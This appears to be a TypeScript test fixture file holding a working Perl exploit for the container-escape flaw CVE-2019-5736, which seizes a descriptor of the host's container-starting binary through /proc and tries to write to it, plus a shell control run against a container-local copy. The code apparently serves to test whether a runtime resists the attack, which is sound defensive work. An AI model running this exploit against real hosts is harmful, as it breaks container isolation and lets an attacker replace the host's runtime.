/**
 * Overwriting the program that starts containers, from inside of one (CVE-2019-5736): a command that leads to
 * /proc/self/exe makes the starter itself the container's process, whose /proc/PID/exe then is the host's file. It
 * cannot be written while anything executes it, but a descriptor of it outlives the process.
 */

/**
 * For perl in the container. Without an argument it hunts for a process that executes a file called `launcher`, and
 * stops and continues it until the kernel lets it be looked into; with a process id it takes that one.
 * Prints `reached` once it has a descriptor of the file, whether that is the file of the host (which is mounted as
 * /outside/launcher), and `overwritten` where it could write to it.
 */
export const OVERWRITE = `use strict;
$| = 1;
my ($given) = @ARGV;
my $file;
sub take { my ($pid) = @_; open($file, '<', "/proc/$pid/exe"); }
sub attempt { my $out; open($out, '>>', $_[0]) and defined syswrite($out, "\\n") and print "overwritten\\n"; }
sub hunt {
  my ($pid) = @_;
  while (kill('STOP', $pid)) {
    my $exe = readlink("/proc/$pid/exe");
    return 0 if defined $exe && $exe !~ /launcher/;
    return 1 if defined $exe && take($pid);
    kill('CONT', $pid);
  }
  return 0;
}
my $pid = $given;
my $until = time + 20;
while (!defined $pid && time < $until) {
  opendir(my $processes, '/proc');
  for (readdir $processes) { if (/^\\d+$/ && $_ > 1 && $_ != $$ && hunt($_)) { $pid = $_; last } }
}
exit 1 unless defined $pid;
if (defined $given) { select(undef, undef, undef, 0.01) while readlink("/proc/$pid/exe") !~ /launcher/; take($pid) }
my @found = stat($file);
my @host = stat('/outside/launcher');
print "reached", ("@found[0, 1]" eq "@host[0, 1]" ? " the file of the host" : ''), "\\n";
attempt("/proc/$pid/exe");
kill('KILL', $pid);
select(undef, undef, undef, 0.01) while readlink("/proc/$pid/exe");
attempt('/proc/self/fd/' . fileno($file)) for 1 .. 3;
`;

/** The same against a copy of the launcher that is an ordinary file of the container: there it works. */
export const CONTROL = `mkfifo /tmp/input && cp /outside/launcher /tmp/launcher
(exec 3<>/tmp/input; exec /tmp/launcher) &
perl /outside/overwrite.pl $! | sed 's/^/control: /'
perl /outside/overwrite.pl
`;
